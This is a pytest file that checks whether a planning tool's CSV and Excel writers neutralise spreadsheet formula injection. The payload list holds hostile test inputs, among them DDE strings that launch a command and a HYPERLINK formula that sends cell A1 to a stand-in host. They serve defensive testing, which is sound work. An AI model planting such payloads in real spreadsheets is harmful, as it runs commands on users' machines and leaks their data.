"""Nothing the suite writes is a formula a spreadsheet would run (OWASP CSV injection): payloads put in
a plan (a copy) and in an outturn file come out of every writer — the template workbook, the processed
tables of a run, write_csv itself — as text, read back with openpyxl and the csv module."""
import csv
import shutil
import subprocess
import sys

import openpyxl
import pandas as pd
import pytest

from conftest import ROOT

PAYLOADS = ['=HYPERLINK("http://example.invalid/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?$"


def _evil_plan(tmp_path):
    from twocreate.plan import PLAN_DIR
    d = tmp_path / PLAN_DIR.name  # the folder name is the plan's id
    shutil.copytree(PLAN_DIR, d)
    tasks = pd.read_csv(d / "tasks.csv", dtype=str, keep_default_na=False)
    named = (ROOT / "data" / "raw" / "tasks" / "illustrative_task_outturns.csv").read_text(encoding="utf-8")
    free = [i for i in tasks.index if tasks.loc[i, "name_zh"] not in named]  # the outturns use their code
    for i, p in zip(free, PAYLOADS):
        tasks.loc[i, "name_zh"] = p
        tasks.loc[i, "name_en"] = p
    tasks.to_csv(d / "tasks.csv", index=False, quoting=csv.QUOTE_ALL)
    ind = pd.read_csv(d / "indicators.csv", dtype=str, keep_default_na=False)
    ind.loc[0, "name_zh"], ind.loc[0, "name_en"] = PAYLOADS[0], PAYLOADS[1]
    ind.loc[1, "name_en"] = PAYLOADS[3]
    ind.to_csv(d / "indicators.csv", index=False, quoting=csv.QUOTE_ALL)
    areas = pd.read_csv(d / "areas.csv", dtype=str, keep_default_na=False)
    areas.loc[1, "name_zh"], areas.loc[1, "name_en"] = PAYLOADS[2], PAYLOADS[4]
    areas.to_csv(d / "areas.csv", index=False, quoting=csv.QUOTE_ALL)
    return d


def _evil_outturns(tmp_path):
    df = pd.read_csv(ROOT / "data" / "raw" / "observations" / "illustrative_outturns.csv", dtype=str,
                     keep_default_na=False)
    df["source"] = [PAYLOADS[i % len(PAYLOADS)] for i in range(len(df))]
    df["note"] = PAYLOADS[1]
    p = tmp_path / "evil_outturns.csv"
    df.to_csv(p, index=False, quoting=csv.QUOTE_ALL)
    return p


def _csv_cells(path):
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return [c for row in csv.reader(fh) for c in row]


def assert_no_formula_in_csv(path):
    import re
    for c in _csv_cells(path):
        assert not (c.startswith(DANGEROUS) and not re.match(PLAIN_NUMBER, c)), (path.name, c)


def assert_no_formula_in_workbook(path):
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, ws.title, cell.coordinate, cell.value)


def test_neutralise_touches_text_only():
    from twocreate.io import neutralise, neutralise_frame
    assert neutralise("=1+1") == "'=1+1" and neutralise("@x") == "'@x" and neutralise("\tx") == "'\tx"
    assert neutralise("-3") == "-3" and neutralise("+5%") == "+5%" and neutralise(-3.0) == -3.0
    df = pd.DataFrame({"name": ["=cmd", "ok"], "value": [-1.5, 2.0], "=col": ["a", "b"]})
    out = neutralise_frame(df)
    assert out["name"].tolist() == ["'=cmd", "ok"] and out["value"].tolist() == [-1.5, 2.0]
    assert list(out.columns) == ["name", "value", "'=col"] and df["name"][0] == "=cmd"  # the input is untouched
    # object columns without text (a flag column of booleans, whole numbers held as objects) pass as they are
    flags = pd.DataFrame({"met": pd.Series([True, False], dtype=object), "n": pd.Series([1, 2], dtype=object),
                          "note": pd.Series([None, "=x"], dtype=object)})
    out = neutralise_frame(flags)
    assert out["met"].tolist() == [True, False] and out["n"].tolist() == [1, 2] and out["note"].tolist() == [None, "'=x"]


def test_write_csv_writes_an_object_column_without_text(tmp_path):
    """A boolean column held as objects (the progress report's milestone table) is written as it is."""
    from twocreate.io import write_csv
    df = pd.DataFrame({"met": pd.Series([True, None], dtype=object), "note": ["a\rb", "=x"]})
    text = write_csv(df, tmp_path / "m.csv").read_text(encoding="utf-8-sig")
    assert text == 'met,note\nTrue,"a\nb"\n,\'=x\n'


def test_write_csv_neutralises_and_keeps_negative_numbers(tmp_path):
    from twocreate.io import write_csv
    p = write_csv(pd.DataFrame({"task": PAYLOADS, "gap": [-1.25] * len(PAYLOADS)}), tmp_path / "t.csv")
    assert_no_formula_in_csv(p)
    text = p.read_text(encoding="utf-8-sig")
    assert "-1.25" in text and "'=cmd|' /C calc'!A0" in text


@pytest.mark.parametrize("layout,lang", [("wide", "zh"), ("tidy", "en")])
def test_template_holds_plan_text_as_strings(tmp_path, layout, lang):
    d = _evil_plan(tmp_path)
    out = tmp_path / "t.xlsx"
    r = subprocess.run([sys.executable, "-m", "twocreate", "template", "--plan", str(d), "--out", str(out),
                        "--layout", layout, "--lang", lang], capture_output=True, text=True, cwd=ROOT, timeout=300)
    assert r.returncode == 0, r.stderr
    assert_no_formula_in_workbook(out)
    texts = {c.value for ws in openpyxl.load_workbook(out).worksheets for row in ws.iter_rows() for c in row}
    assert PAYLOADS[0] in texts or PAYLOADS[1] in texts  # the plan's text is there, as text
    wb = openpyxl.load_workbook(out)
    cell = next(c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value in PAYLOADS)
    assert cell.quotePrefix  # and editing it in Excel keeps it text


@pytest.mark.e2e
def test_a_run_writes_no_formula_from_plan_or_outturns(tmp_path):
    """The task ledger and the trajectory tables of a run on the poisoned plan and outturns."""
    d = _evil_plan(tmp_path)
    obs = _evil_outturns(tmp_path)
    out, processed = tmp_path / "reports", tmp_path / "processed"
    r = subprocess.run([sys.executable, "-m", "twocreate", "run", "--plan", str(d), "--only", "tasks", "progress",
                        "--year", "2018", "--lang", "en", "--observations", str(obs), "--out", str(out),
                        "--processed", str(processed)], capture_output=True, text=True, cwd=ROOT, timeout=900)
    assert r.returncode == 0, r.stdout[-2000:] + r.stderr[-2000:]
    written = sorted(processed.rglob("*.csv"))
    assert any(p.name.startswith("task_ledger") for p in written), written
    for p in written:
        assert_no_formula_in_csv(p)
    for p in processed.rglob("*.xlsx"):
        assert_no_formula_in_workbook(p)
    ledger = next(p for p in written if p.name.startswith("task_ledger"))
    assert any(c.startswith("'=") for c in _csv_cells(ledger))  # the payload went through, neutralised
